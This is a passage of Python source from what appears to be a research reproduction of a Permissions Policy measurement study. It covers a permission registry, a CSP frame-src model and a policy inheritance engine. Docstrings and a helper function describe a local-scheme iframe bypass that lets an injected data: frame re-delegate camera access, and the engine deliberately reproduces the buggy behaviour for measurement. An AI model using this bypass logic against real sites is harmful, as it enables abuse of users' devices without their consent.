       apis=("pushManager.subscribe", "PushManager"), spec="Push API"),
    # --- Advertising / tracking --------------------------------------------
    _p("browsing-topics", default="*", category=PermissionCategory.ADS,
       apis=("document.browsingTopics",), spec="Topics API"),
    _p("attribution-reporting", instrumented=False, default="*", category=PermissionCategory.ADS,
       apis=("attributionReporting",), spec="Attribution Reporting"),
    _p("run-ad-auction", instrumented=False, default="*", category=PermissionCategory.ADS,
       apis=("navigator.runAdAuction",), spec="Protected Audience"),
    _p("join-ad-interest-group", instrumented=False, default="*", category=PermissionCategory.ADS,
       apis=("navigator.joinAdInterestGroup",), spec="Protected Audience"),
    _p("interest-cohort", instrumented=False, default="*", category=PermissionCategory.ADS,
       deprecated=True, apis=("document.interestCohort",), spec="FLoC (removed)"),
    _p("private-state-token-issuance", instrumented=False, default="*", category=PermissionCategory.ADS,
       apis=("hasPrivateToken",), spec="Private State Tokens"),
    _p("private-state-token-redemption", instrumented=False, default="*", category=PermissionCategory.ADS,
       apis=("hasRedemptionRecord",), spec="Private State Tokens"),
    # --- Payments ------------------------------------------------------------
    _p("payment", powerful=True, category=PermissionCategory.PAYMENT,
       apis=("PaymentRequest",), spec="Payment Request"),
    # --- Misc policy-only features -------------------------------------------
    _p("sync-xhr", instrumented=False, default="*", category=PermissionCategory.OTHER,
       apis=("XMLHttpRequest",), spec="XMLHttpRequest"),
    _p("cross-origin-isolated", instrumented=False, category=PermissionCategory.OTHER,
       apis=("crossOriginIsolated",), spec="HTML"),
    _p("document-domain", instrumented=False, default="*", category=PermissionCategory.OTHER,
       deprecated=True, apis=("document.domain",), spec="HTML"),
    # --- User-Agent Client Hints (paper 4.3.2) -------------------------------
    _p("ch-ua", instrumented=False, default="*", category=PermissionCategory.CLIENT_HINT,
       apis=("userAgentData",), spec="UA Client Hints"),
    _p("ch-ua-arch", instrumented=False, default="*", category=PermissionCategory.CLIENT_HINT,
       apis=("userAgentData.getHighEntropyValues",), spec="UA Client Hints"),
    _p("ch-ua-bitness", instrumented=False, default="*", category=PermissionCategory.CLIENT_HINT,
       apis=("userAgentData.getHighEntropyValues",), spec="UA Client Hints"),
    _p("ch-ua-full-version", instrumented=False, default="*", category=PermissionCategory.CLIENT_HINT,
       apis=("userAgentData.getHighEntropyValues",), spec="UA Client Hints"),
    _p("ch-ua-full-version-list", instrumented=False, default="*", category=PermissionCategory.CLIENT_HINT,
       apis=("userAgentData.getHighEntropyValues",), spec="UA Client Hints"),
    _p("ch-ua-mobile", instrumented=False, default="*", category=PermissionCategory.CLIENT_HINT,
       apis=("userAgentData.mobile",), spec="UA Client Hints"),
    _p("ch-ua-model", instrumented=False, default="*", category=PermissionCategory.CLIENT_HINT,
       apis=("userAgentData.getHighEntropyValues",), spec="UA Client Hints"),
    _p("ch-ua-platform", instrumented=False, default="*", category=PermissionCategory.CLIENT_HINT,
       apis=("userAgentData.platform",), spec="UA Client Hints"),
    _p("ch-ua-platform-version", instrumented=False, default="*", category=PermissionCategory.CLIENT_HINT,
       apis=("userAgentData.getHighEntropyValues",), spec="UA Client Hints"),
    _p("ch-ua-wow64", instrumented=False, default="*", category=PermissionCategory.CLIENT_HINT,
       apis=("userAgentData.getHighEntropyValues",), spec="UA Client Hints"),
)


class PermissionRegistry:
    """An immutable, name-indexed collection of :class:`Permission` records.

    The default instance (:data:`DEFAULT_REGISTRY`) holds the full paper
    catalogue; tests and tools may build smaller registries.
    """

    def __init__(self, permissions: Iterable[Permission] | None = None) -> None:
        entries = tuple(_CATALOGUE if permissions is None else permissions)
        self._by_name: dict[str, Permission] = {}
        for perm in entries:
            if perm.name in self._by_name:
                raise ValueError(f"duplicate permission {perm.name!r}")
            self._by_name[perm.name] = perm
        for perm in entries:
            for alias in perm.aliases:
                if alias in self._by_name:
                    raise ValueError(f"alias {alias!r} collides with an existing name")
                self._by_name[alias] = perm
        self._permissions = entries

    def get(self, name: str) -> Permission:
        """Return the permission registered under ``name`` (or an alias).

        Raises:
            UnknownPermissionError: if no such permission exists.
        """
        try:
            return self._by_name[name]
        except KeyError:
            raise UnknownPermissionError(name) from None

    def maybe(self, name: str) -> Permission | None:
        """Like :meth:`get` but returns ``None`` for unknown names."""
        return self._by_name.get(name)

    def __contains__(self, name: object) -> bool:
        return name in self._by_name

    def __iter__(self) -> Iterator[Permission]:
        return iter(self._permissions)

    def __len__(self) -> int:
        return len(self._permissions)

    def names(self) -> tuple[str, ...]:
        """Canonical names of all registered permissions, in catalogue order."""
        return tuple(p.name for p in self._permissions)

    def policy_controlled(self) -> tuple[Permission, ...]:
        """All policy-controlled permissions (the ones headers can govern)."""
        return tuple(p for p in self._permissions if p.policy_controlled)

    def powerful(self) -> tuple[Permission, ...]:
        """All powerful permissions (the ones gated on user consent)."""
        return tuple(p for p in self._permissions if p.powerful)

    def by_category(self, category: PermissionCategory) -> tuple[Permission, ...]:
        """All permissions in a functional category."""
        return tuple(p for p in self._permissions if p.category is category)

    def default_allowlist(self, name: str) -> DefaultAllowlist:
        """Default allowlist of a policy-controlled permission.

        Raises:
            UnknownPermissionError: for unknown names.
            ValueError: if the permission is not policy-controlled.
        """
        perm = self.get(name)
        if perm.default_allowlist is None:
            raise ValueError(f"{name!r} is not policy-controlled")
        return perm.default_allowlist

    def instrumented(self) -> tuple[Permission, ...]:
        """Permissions the measurement pipeline instruments (Appendix A.4)."""
        return tuple(p for p in self._permissions if p.instrumented)

    def match_api(self, source_fragment: str) -> tuple[Permission, ...]:
        """Permissions whose API patterns occur in ``source_fragment``.

        This is the string-matching primitive behind the paper's static
        analysis (Section 3.1.1): plain substring search, deliberately blind
        to aliasing and obfuscation.
        """
        found = []
        for perm in self._permissions:
            if not perm.instrumented:
                continue
            if any(pattern in source_fragment for pattern in perm.api_patterns):
                found.append(perm)
        return tuple(found)


#: Registry holding the full paper catalogue.
DEFAULT_REGISTRY = PermissionRegistry()

#: Names of the General Permission APIs (paper Section 4.1): functions from
#: the Permissions and Permissions/Feature Policy specifications rather than
#: from an individual feature specification.
GENERAL_PERMISSION_APIS: tuple[str, ...] = (
    "navigator.permissions.query",
    "document.permissionsPolicy.features",
    "document.permissionsPolicy.allowedFeatures",
    "document.permissionsPolicy.allowsFeature",
    "document.featurePolicy.features",
    "document.featurePolicy.allowedFeatures",
    "document.featurePolicy.allowsFeature",
)

#: Subset of :data:`GENERAL_PERMISSION_APIS` that belongs to the deprecated
#: Feature Policy interface; the paper reports 429,259 websites still using
#: these (Section 4.1.1).
FEATURE_POLICY_APIS: tuple[str, ...] = tuple(
    api for api in GENERAL_PERMISSION_APIS if "featurePolicy" in api
)
