"""Permissions Policy engine.

A from-scratch implementation of the mechanisms the paper measures
(Sections 2 and 3):

* :mod:`repro.policy.origin` — origins, sites (eTLD+1) and local schemes;
* :mod:`repro.policy.structured` — the RFC 8941 structured-field parser the
  ``Permissions-Policy`` header syntax is built on;
* :mod:`repro.policy.allowlist` — allowlist values and matching;
* :mod:`repro.policy.header` — ``Permissions-Policy`` header parsing with
  the error taxonomy behind the paper's misconfiguration analysis (4.3.3);
* :mod:`repro.policy.feature_policy` — the legacy ``Feature-Policy`` syntax;
* :mod:`repro.policy.allow_attr` — the iframe ``allow`` attribute;
* :mod:`repro.policy.engine` — policy inheritance and
  ``is_feature_enabled``, including the local-scheme spec bug (Table 11);
* :mod:`repro.policy.csp` — the minimal CSP ``frame-src`` model that gates
  the local-scheme attack (Section 6.2);
* :mod:`repro.policy.linter` — syntax and semantic misconfiguration
  detection for deployed headers.
"""

from repro.policy.allow_attr import AllowAttribute, parse_allow_attribute
from repro.policy.allowlist import Allowlist, AllowlistKeyword
from repro.policy.engine import PermissionsPolicyEngine, PolicyDecision
from repro.policy.feature_policy import parse_feature_policy_header
from repro.policy.header import (
    HeaderParseError,
    ParsedPolicyHeader,
    parse_permissions_policy_header,
)
from repro.policy.issues import ParseIssue
from repro.policy.linter import HeaderLinter, LintFinding, LintSeverity
from repro.policy.origin import LOCAL_SCHEMES, Origin, site_of

__all__ = [
    "AllowAttribute",
    "Allowlist",
    "AllowlistKeyword",
    "HeaderLinter",
    "HeaderParseError",
    "LintFinding",
    "LintSeverity",
    "LOCAL_SCHEMES",
    "Origin",
    "ParsedPolicyHeader",
    "ParseIssue",
    "PermissionsPolicyEngine",
    "PolicyDecision",
    "parse_allow_attribute",
    "parse_feature_policy_header",
    "parse_permissions_policy_header",
    "site_of",
]
