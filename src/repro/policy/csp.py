"""Minimal Content-Security-Policy model: the ``frame-src`` gate.

The local-scheme attack of paper Section 6.2 needs the attacker to inject an
iframe into the victim page.  A strict CSP normally blocks this — *unless*
the policy does not constrain frames: the paper notes the bypass "is the
case when the Content-Security-Policy header of a website does not specify a
frame-src directive" (and no ``child-src``/``default-src`` fallback covers
it).

Only the directives participating in that fallback chain are modelled:
``frame-src`` → ``child-src`` → ``default-src``.  Source expressions are
restricted to the forms relevant for frame loading: ``*``, ``'none'``,
``'self'``, scheme sources (``data:`` …) and host sources.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.policy.origin import LOCAL_SCHEMES, Origin, OriginParseError

#: Fallback chain for frame loads, most specific first.
_FRAME_FALLBACK: tuple[str, ...] = ("frame-src", "child-src", "default-src")


@dataclass(frozen=True)
class SourceExpression:
    """One CSP source expression, pre-classified for matching."""

    raw: str
    star: bool = False
    none: bool = False
    self_: bool = False
    scheme: str | None = None
    host_origin: Origin | None = None
    host_wildcard: str | None = None  # e.g. "*.example.org" → "example.org"

    @classmethod
    def parse(cls, token: str) -> "SourceExpression":
        lowered = token.lower()
        if lowered == "*":
            return cls(token, star=True)
        if lowered == "'none'":
            return cls(token, none=True)
        if lowered == "'self'":
            return cls(token, self_=True)
        if lowered.endswith(":") and "/" not in lowered:
            return cls(token, scheme=lowered[:-1])
        if lowered.startswith("*."):
            return cls(token, host_wildcard=lowered[2:])
        try:
            url = lowered if "://" in lowered else f"https://{lowered}"
            return cls(token, host_origin=Origin.parse(url))
        except OriginParseError:
            return cls(token)  # matches nothing

    def matches(self, target_url: str, *, self_origin: Origin) -> bool:
        if self.none:
            return False
        scheme = target_url.split(":", 1)[0].lower()
        if self.star:
            # `*` matches any non-local scheme; data:/blob: need an explicit
            # scheme source per CSP3.
            return scheme not in LOCAL_SCHEMES
        if self.scheme is not None:
            return scheme == self.scheme
        if scheme in LOCAL_SCHEMES:
            return False
        try:
            target = Origin.parse(target_url)
        except OriginParseError:
            return False
        if self.self_:
            return target.same_origin(self_origin)
        if self.host_wildcard is not None:
            return (target.host == self.host_wildcard
                    or target.host.endswith("." + self.host_wildcard))
        if self.host_origin is not None:
            return target.host == self.host_origin.host
        return False


@dataclass
class ContentSecurityPolicy:
    """A parsed CSP, restricted to the frame-loading fallback chain."""

    raw: str
    directives: dict[str, tuple[SourceExpression, ...]] = field(default_factory=dict)

    @classmethod
    def parse(cls, raw: str) -> "ContentSecurityPolicy":
        policy = cls(raw=raw)
        for chunk in raw.split(";"):
            parts = chunk.split()
            if not parts:
                continue
            name = parts[0].lower()
            policy.directives[name] = tuple(
                SourceExpression.parse(token) for token in parts[1:])
        return policy

    def governing_directive(self) -> str | None:
        """The directive that governs frame loads, following the
        frame-src → child-src → default-src fallback."""
        for name in _FRAME_FALLBACK:
            if name in self.directives:
                return name
        return None

    @property
    def constrains_frames(self) -> bool:
        """Whether this policy restricts frame loads at all — the
        precondition check for the local-scheme attack."""
        return self.governing_directive() is not None

    def allows_frame(self, target_url: str, *, self_origin: Origin) -> bool:
        """Whether an iframe loading ``target_url`` may be embedded."""
        name = self.governing_directive()
        if name is None:
            return True
        sources = self.directives[name]
        if not sources:
            return False  # bare directive == 'none'
        return any(source.matches(target_url, self_origin=self_origin)
                   for source in sources)


def local_scheme_attack_possible(csp: ContentSecurityPolicy | None,
                                 *, self_origin: Origin,
                                 scheme: str = "data") -> bool:
    """Whether the Section 6.2 HTML-injection attack can plant a
    local-scheme iframe on a page with this CSP.

    ``None`` (no CSP at all) and CSPs without a frame-governing directive
    leave the door open; otherwise the local scheme must be admitted
    explicitly.
    """
    if csp is None or not csp.constrains_frames:
        return True
    return csp.allows_frame(f"{scheme}:text/html,", self_origin=self_origin)
