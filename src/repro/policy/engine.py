"""Policy computation: inheritance and ``is_feature_enabled``.

This module evaluates, for any frame in a frame tree, whether a permission
is available — combining the feature's *default allowlist*, the
``Permissions-Policy`` (or legacy ``Feature-Policy``) header of every
ancestor, and the ``allow`` attribute of the embedding iframe.  The rules
reproduce the eight canonical cases of the paper's Table 1:

====  ===========================  ==============  ===========  ============
case  top-level header             top-level gets  allow attr   iframe gets
====  ===========================  ==============  ===========  ============
1     (none)                       yes             (none)       no
2     (none)                       yes             camera       yes
3     ``camera=()``                no              camera       no
4     ``camera=(self)``            yes             camera       no
5     ``camera=(*)``               yes             (none)       no
6     ``camera=(*)``               yes             camera       yes
7     ``camera=(self "iframe")``   yes             camera       yes
8     ``camera=("iframe")``        no              camera       no
====  ===========================  ==============  ===========  ============

The evaluation for a child frame is:

a. the parent must have the feature for its own origin (case 8 fails here);
b. if the parent *declares* the feature in a header, the declared allowlist
   must match the child's origin (case 4 fails, cases 6/7 pass here);
c. if the container iframe declares the feature in ``allow``, that allowlist
   decides (case 2 passes here);
d. otherwise the feature's default allowlist decides: ``*`` passes, ``self``
   requires a same-origin child (cases 1 and 5 fail here).

**Local-scheme spec bug (paper Section 6.2, Table 11).**  Local-scheme
documents (``data:``, ``about:srcdoc``, ``blob:``) carry no headers of their
own.  Under the published specification — and hence in Chromium — they do
*not* inherit the parent's declared policy either, only the per-feature
boolean outcome.  A ``data:`` iframe inside a page with
``Permissions-Policy: camera=(self)`` can therefore re-delegate ``camera``
to an arbitrary third party, bypassing the header.  The engine reproduces
both behaviours via ``local_scheme_bug``: ``True`` models the shipped
(buggy) behaviour, ``False`` the expected/fixed behaviour where local-scheme
documents inherit their parent's declared policy.
"""

from __future__ import annotations

import weakref
from dataclasses import dataclass, field
from typing import Optional

from repro.policy.allow_attr import AllowAttribute, parse_allow_attribute
from repro.policy.allowlist import Allowlist
from repro.policy.feature_policy import (
    ParsedFeaturePolicyHeader,
    parse_feature_policy_header,
)
from repro.policy.header import (
    ParsedPolicyHeader,
    parse_permissions_policy_header,
)
from repro.obs import metrics as _metrics
from repro.policy.origin import LOCAL_SCHEMES, Origin
from repro.registry.features import (
    DEFAULT_REGISTRY,
    DefaultAllowlist,
    PermissionRegistry,
)


@dataclass(eq=False)
class PolicyFrame:
    """A frame in a frame tree, as the policy engine sees it.

    Only policy-relevant state lives here; the full browser substrate
    (:mod:`repro.browser.dom`) builds these for its documents.

    Frames are *policy snapshots*: build the tree (including the loader's
    ``src_origin`` fix-up) first, evaluate afterwards.  The engine memoizes
    per-frame decisions on that immutability, which is also why frames
    compare and hash by identity (``eq=False``) — two structurally equal
    frames are still two distinct documents.

    Attributes:
        origin: The document's origin (opaque for local schemes).
        scheme: URL scheme the document was loaded from.
        parent: The embedding frame, ``None`` for top-level documents.
        allow: Parsed ``allow`` attribute of the container iframe.
        src_origin: Origin of the container iframe's ``src`` attribute
            (gives meaning to the ``src`` keyword).
        header: Parsed ``Permissions-Policy`` header of this document.
        fp_header: Parsed legacy ``Feature-Policy`` header; enforced only
            when no ``Permissions-Policy`` header exists (Chromium rule).
        sandboxed: The container iframe carried a ``sandbox`` attribute
            *without* ``allow-same-origin``: the document runs with an
            opaque origin, so every ``self``-keyed allowlist (including the
            defaults) fails to match it — only ``*`` grants survive.
    """

    origin: Origin
    scheme: str = "https"
    parent: Optional["PolicyFrame"] = None
    allow: AllowAttribute | None = None
    src_origin: Origin | None = None
    header: ParsedPolicyHeader | None = None
    fp_header: ParsedFeaturePolicyHeader | None = None
    sandboxed: bool = False
    _effective_origin: Origin | None = field(default=None, init=False,
                                             repr=False)
    _chain_key: tuple | None = field(default=None, init=False, repr=False)

    # -- constructors ---------------------------------------------------------

    @classmethod
    def top(cls, url: str, *, header: str | None = None,
            fp_header: str | None = None) -> "PolicyFrame":
        """A top-level document at ``url`` with optional header values.

        A syntactically invalid ``Permissions-Policy`` header is dropped
        entirely, exactly like the browser does.
        """
        origin = Origin.parse(url)
        return cls(origin=origin, scheme=origin.scheme,
                   header=_parse_header_or_none(header),
                   fp_header=_parse_fp_header_or_none(fp_header))

    def child(self, url: str, *, allow: str | None = None,
              header: str | None = None,
              fp_header: str | None = None,
              sandbox: str | None = None) -> "PolicyFrame":
        """An iframe of this frame loading ``url``.

        Args:
            sandbox: The ``sandbox`` attribute value, ``None`` when absent.
                An empty string means "fully sandboxed"; sandboxing without
                the ``allow-same-origin`` token gives the document an
                opaque origin.
        """
        origin = Origin.parse(url)
        sandboxed = sandbox_isolates(sandbox)
        return PolicyFrame(
            origin=(Origin.opaque_origin(origin.scheme) if sandboxed
                    else origin),
            scheme=origin.scheme,
            parent=self,
            allow=(parse_allow_attribute(allow, mode="lenient")
                   if allow is not None else None),
            src_origin=origin if not origin.opaque else None,
            header=_parse_header_or_none(header),
            fp_header=_parse_fp_header_or_none(fp_header),
            sandboxed=sandboxed,
        )

    def local_child(self, *, scheme: str = "data",
                    allow: str | None = None) -> "PolicyFrame":
        """A local-scheme iframe (``data:`` / ``about:srcdoc`` / ``blob:``)."""
        if scheme not in LOCAL_SCHEMES:
            raise ValueError(f"{scheme!r} is not a local scheme")
        return PolicyFrame(
            origin=Origin.opaque_origin(scheme),
            scheme=scheme,
            parent=self,
            allow=(parse_allow_attribute(allow, mode="lenient")
                   if allow is not None else None),
            src_origin=None,
        )

    # -- structure ------------------------------------------------------------

    @property
    def is_top_level(self) -> bool:
        return self.parent is None

    @property
    def is_local_scheme(self) -> bool:
        return self.scheme in LOCAL_SCHEMES

    @property
    def root(self) -> "PolicyFrame":
        """The top-level frame of this frame's tree."""
        frame = self
        while frame.parent is not None:
            frame = frame.parent
        return frame

    def effective_policy_origin(self) -> Origin:
        """The origin policy matching uses for this document.

        Local-scheme documents have opaque origins, but for policy purposes
        browsers treat them like their creator: ``self`` checks resolve
        against the nearest non-local ancestor's origin.
        """
        cached = self._effective_origin
        if cached is None:
            frame = self
            while frame.is_local_scheme and frame.parent is not None:
                frame = frame.parent
            cached = frame.origin
            self._effective_origin = cached
        return cached


def sandbox_isolates(sandbox: str | None) -> bool:
    """Whether a ``sandbox`` attribute value forces an opaque origin.

    Any ``sandbox`` attribute isolates the document unless the
    ``allow-same-origin`` token is present; absence of the attribute
    (``None``) never isolates.
    """
    if sandbox is None:
        return False
    tokens = {token.lower() for token in sandbox.split()}
    return "allow-same-origin" not in tokens


def _parse_header_or_none(raw: str | None) -> ParsedPolicyHeader | None:
    """Parse a header the way the engine consumes it: leniently.  A header
    the browser would drop — or any hostile garbage that would crash a
    strict parse — becomes ``None`` (no policy), never an exception."""
    if raw is None:
        return None
    parsed = parse_permissions_policy_header(raw, mode="lenient")
    return None if parsed.dropped else parsed


def _parse_fp_header_or_none(
        raw: str | None) -> ParsedFeaturePolicyHeader | None:
    if raw is None:
        return None
    return parse_feature_policy_header(raw, mode="lenient")


_MISSING = object()

_MEMO_COUNTERS: "tuple | None" = None


def _memo_counters() -> tuple:
    """``(hits, misses)`` counter handles for the explain memo, created on
    first gated use (keeps the disabled hot path at one branch).  The
    registry's :meth:`~repro.obs.metrics.MetricsRegistry.reset` keeps the
    objects alive, so the cached handles never go stale."""
    global _MEMO_COUNTERS
    if _MEMO_COUNTERS is None:
        _MEMO_COUNTERS = (
            _metrics.REGISTRY.counter("policy.explain_memo_hits"),
            _metrics.REGISTRY.counter("policy.explain_memo_misses"))
    return _MEMO_COUNTERS


class _IdentityKey:
    """Hash-by-identity cache key that keeps its target alive.

    Opaque origins are same-origin only with *themselves* (identity, not
    structural equality — see :meth:`Origin.same_origin`), so decisions
    involving them must be keyed by identity.  Holding a strong reference
    prevents ``id()`` reuse from aliasing two different origins.
    """

    __slots__ = ("obj",)

    def __init__(self, obj: object) -> None:
        self.obj = obj

    def __hash__(self) -> int:
        return id(self.obj)

    def __eq__(self, other: object) -> bool:
        return isinstance(other, _IdentityKey) and self.obj is other.obj


def _frame_chain_key(frame: PolicyFrame) -> tuple:
    """Structural key of a frame's whole policy chain (root → frame).

    Two frames with equal chain keys receive identical ``(enabled, reason)``
    decisions for every feature, so the engine can share memo entries
    *across* frame trees — e.g. the same widget chain on every crawled
    website — instead of per frame object.  That soundness rests on three
    properties of the evaluation:

    - decisions depend only on each chain frame's scheme, sandbox flag,
      declared policies (header / legacy header / ``allow`` attribute) and
      the **same-origin relationships** among the origins involved, never
      on an absolute origin value;
    - ``same_origin`` is an equivalence relation (structural for tuple
      origins, identity for opaque ones), so numbering origins by first
      appearance in a fixed scan order preserves exactly the relation:
      equal tokens ⇔ same-origin;
    - reason strings are origin-free (the site-specific ``frame_origin``
      field is rematerialized per call, not memoized).

    The key is cached on the frame — frames are immutable policy snapshots.
    """
    cached = frame._chain_key
    if cached is not None:
        return cached
    chain: list[PolicyFrame] = []
    node: PolicyFrame | None = frame
    while node is not None:
        chain.append(node)
        node = node.parent
    chain.reverse()

    tokens: dict[object, int] = {}

    def token(origin: Origin | None) -> int | None:
        if origin is None:
            return None
        # Opaque origins are same-origin by identity only; tuple origins by
        # (scheme, host, port).  First-appearance numbering keeps tokens
        # positional, so structurally identical chains over *different*
        # absolute origins still collide (that is the whole point).
        key: object = (_IdentityKey(origin) if origin.opaque
                       else (origin.scheme, origin.host, origin.port))
        index = tokens.get(key)
        if index is None:
            index = len(tokens)
            tokens[key] = index
        return index

    def allowlist_key(allowlist: Allowlist) -> tuple:
        return (allowlist.star, allowlist.self_, allowlist.src,
                tuple(token(entry) for entry in allowlist.origins))

    parts = []
    for node in chain:
        header = node.header
        fp_header = node.fp_header
        allow = node.allow
        parts.append((
            node.scheme,
            node.sandboxed,
            token(node.effective_policy_origin()),
            token(node.src_origin),
            None if header is None else tuple(
                (feature, allowlist_key(allowlist))
                for feature, allowlist in header.directives.items()),
            None if fp_header is None else tuple(
                (feature, allowlist_key(allowlist))
                for feature, allowlist in fp_header.directives.items()),
            None if allow is None else tuple(
                (entry.feature, allowlist_key(entry.allowlist))
                for entry in allow.entries.values()),
        ))
    key = tuple(parts)
    frame._chain_key = key
    return key


@dataclass(frozen=True)
class PolicyDecision:
    """Outcome of a policy evaluation with a human-readable reason chain."""

    feature: str
    enabled: bool
    reason: str
    frame_origin: str = ""

    def __bool__(self) -> bool:
        return self.enabled


class PermissionsPolicyEngine:
    """Evaluates Permissions Policy for frames.

    Args:
        registry: Permission catalogue providing default allowlists.
        local_scheme_bug: ``True`` reproduces the shipped Chromium/spec
            behaviour in which local-scheme documents do not inherit their
            parent's declared policy (the Table 11 "Actual Specification"
            row); ``False`` models the expected behaviour.
    """

    def __init__(self, registry: PermissionRegistry | None = None,
                 *, local_scheme_bug: bool = True) -> None:
        self._registry = registry if registry is not None else DEFAULT_REGISTRY
        self._local_scheme_bug = local_scheme_bug
        # Per-frame working cache.  Frames are immutable policy snapshots
        # (PolicyFrame docstring), so any (feature, origin) decision is
        # stable for a frame's lifetime; weak keys let caches die with
        # their documents instead of pinning every frame ever evaluated.
        self._frame_caches: "weakref.WeakKeyDictionary[PolicyFrame, dict]" = \
            weakref.WeakKeyDictionary()
        # Cross-frame decision memo keyed on the structural chain key
        # (:func:`_frame_chain_key`): identical policy chains on different
        # websites share one entry.  Values are origin-free
        # ``(enabled, reason)`` pairs; the PolicyDecision is rematerialized
        # with the asking frame's own origin.
        self._decision_memo: dict[tuple, tuple[bool, str]] = {}
        self._features_memo: dict[tuple, tuple[str, ...]] = {}

    def __getstate__(self) -> dict:
        # WeakKeyDictionary cannot be pickled; the cache is pure memo state,
        # so worker processes rebuild it empty.
        return {"registry": self._registry,
                "local_scheme_bug": self._local_scheme_bug}

    def __setstate__(self, state: dict) -> None:
        self.__init__(state["registry"],
                      local_scheme_bug=state["local_scheme_bug"])

    def _cache_for(self, frame: PolicyFrame) -> dict:
        cache = self._frame_caches.get(frame)
        if cache is None:
            cache = {}
            self._frame_caches[frame] = cache
        return cache

    @staticmethod
    def _origin_key(origin: Origin) -> object:
        # Opaque origins are same-origin by identity only, so structurally
        # equal opaque origins must not share cache entries.
        return _IdentityKey(origin) if origin.opaque else origin

    @property
    def registry(self) -> PermissionRegistry:
        return self._registry

    @property
    def local_scheme_bug(self) -> bool:
        return self._local_scheme_bug

    # -- public API -------------------------------------------------------------

    def is_enabled(self, feature: str, frame: PolicyFrame,
                   origin: Origin | None = None) -> bool:
        """Whether ``feature`` is enabled in ``frame`` for ``origin``
        (defaulting to the frame's own effective origin)."""
        return self.explain(feature, frame, origin).enabled

    #: Epoch bound for the structural memo — far above the chain diversity
    #: of any real crawl, purely a hostile-input backstop.
    _MEMO_MAX = 1 << 17

    def explain(self, feature: str, frame: PolicyFrame,
                origin: Origin | None = None) -> PolicyDecision:
        """Like :meth:`is_enabled` but returns the decision with a reason."""
        if origin is not None:
            # Explicit query origins are rare (and frame-specific); they
            # stay on the per-frame cache.
            return self._explain_per_frame(feature, frame, origin)
        memo = self._decision_memo
        key = (_frame_chain_key(frame), feature)
        cached = memo.get(key)
        if cached is not None:
            if _metrics.COUNTING:
                _memo_counters()[0].inc()
            enabled, reason = cached
            return PolicyDecision(feature, enabled, reason,
                                  frame.effective_policy_origin().serialize())
        decision = self._explain(feature, frame, None)
        if len(memo) >= self._MEMO_MAX:
            memo.clear()
        memo[key] = (decision.enabled, decision.reason)
        if _metrics.COUNTING:
            _memo_counters()[1].inc()
        return decision

    def _explain_per_frame(self, feature: str, frame: PolicyFrame,
                           origin: Origin) -> PolicyDecision:
        cache = self._cache_for(frame)
        key = ("explain", feature, self._origin_key(origin))
        decision = cache.get(key)
        if decision is None:
            decision = self._explain(feature, frame, origin)
            cache[key] = decision
            if _metrics.COUNTING:
                _memo_counters()[1].inc()
        elif _metrics.COUNTING:
            _memo_counters()[0].inc()
        return decision

    def _explain(self, feature: str, frame: PolicyFrame,
                 origin: Origin | None = None) -> PolicyDecision:
        frame_origin = frame.effective_policy_origin()
        if origin is None:
            origin = frame_origin
        perm = self._registry.maybe(feature)
        if perm is None:
            return PolicyDecision(feature, True,
                                  "unknown feature: not policy-controlled",
                                  frame_origin.serialize())
        if not perm.policy_controlled:
            return self._non_policy_controlled(feature, frame, frame_origin)
        return self._enabled_in_document(feature, frame, origin)

    def can_delegate(self, feature: str, frame: PolicyFrame) -> bool:
        """Whether ``frame`` can delegate ``feature`` further via ``allow``
        (requires the feature to be both policy-controlled and enabled in
        the frame itself — paper Section 2.2.2)."""
        perm = self._registry.maybe(feature)
        if perm is None or not perm.policy_controlled:
            return False
        return self.is_enabled(feature, frame)

    def allowed_features(self, frame: PolicyFrame) -> tuple[str, ...]:
        """All policy-controlled features enabled in ``frame`` — the list
        ``document.permissionsPolicy.allowedFeatures()`` returns, which the
        paper observes many scripts retrieving wholesale (Section 4.1.2)."""
        memo = self._features_memo
        key = _frame_chain_key(frame)
        features = memo.get(key)
        if features is None:
            # A miss fans out into one explain() per policy-controlled
            # feature, and those count themselves (hit or miss each).
            features = tuple(
                perm.name for perm in self._registry.policy_controlled()
                if self.is_enabled(perm.name, frame))
            if len(memo) >= self._MEMO_MAX:
                memo.clear()
            memo[key] = features
        elif _metrics.COUNTING:
            # The memo counters count *decisions*: a hit here serves the
            # whole per-feature fan-out from the memo in one lookup.
            _memo_counters()[0].inc(len(self._registry.policy_controlled()))
        return features

    # -- evaluation -------------------------------------------------------------

    def _non_policy_controlled(self, feature: str, frame: PolicyFrame,
                               frame_origin: Origin) -> PolicyDecision:
        """Features outside the policy system (e.g. notifications, push)
        are usable from the top-level document and same-origin descendants
        only, and can never be delegated cross-origin."""
        node = frame
        while node.parent is not None:
            parent_origin = node.parent.effective_policy_origin()
            if not frame_origin.same_origin(parent_origin):
                return PolicyDecision(
                    feature, False,
                    "not policy-controlled: unavailable to cross-origin frames",
                    frame_origin.serialize())
            node = node.parent
        return PolicyDecision(feature, True,
                              "not policy-controlled: top-level/same-origin",
                              frame_origin.serialize())

    def _declared_policy(self, frame: PolicyFrame
                         ) -> tuple[dict[str, Allowlist], Origin] | None:
        """The declared policy governing ``frame``: its own headers, or — in
        fixed (non-bug) mode — the nearest ancestor's headers for header-less
        local-scheme documents.  Returns ``(directives, self-origin)``."""
        cache = self._cache_for(frame)
        declared = cache.get("declared", _MISSING)
        if declared is _MISSING:
            declared = self._declared_policy_uncached(frame)
            cache["declared"] = declared
        return declared

    def _declared_policy_uncached(self, frame: PolicyFrame
                                  ) -> tuple[dict[str, Allowlist], Origin] | None:
        if frame.header is not None:
            return frame.header.directives, frame.effective_policy_origin()
        if frame.fp_header is not None:
            return frame.fp_header.directives, frame.effective_policy_origin()
        if (frame.is_local_scheme and frame.parent is not None
                and not self._local_scheme_bug):
            return self._declared_policy(frame.parent)
        return None

    def _enabled_in_document(self, feature: str, frame: PolicyFrame,
                             origin: Origin) -> PolicyDecision:
        cache = self._cache_for(frame)
        key = ("doc", feature, self._origin_key(origin))
        decision = cache.get(key)
        if decision is None:
            decision = self._enabled_in_document_uncached(feature, frame,
                                                          origin)
            cache[key] = decision
        return decision

    def _enabled_in_document_uncached(self, feature: str, frame: PolicyFrame,
                                      origin: Origin) -> PolicyDecision:
        inherited = self._inherited(feature, frame)
        if not inherited.enabled:
            return inherited
        declared = self._declared_policy(frame)
        frame_origin = frame.effective_policy_origin()
        if declared is not None:
            directives, self_origin = declared
            if feature in directives:
                allowlist = directives[feature]
                if allowlist.allows(origin, self_origin=self_origin):
                    return PolicyDecision(feature, True,
                                          "declared allowlist matches",
                                          frame_origin.serialize())
                return PolicyDecision(feature, False,
                                      "declared allowlist does not match",
                                      frame_origin.serialize())
        default = self._registry.get(feature).default_allowlist
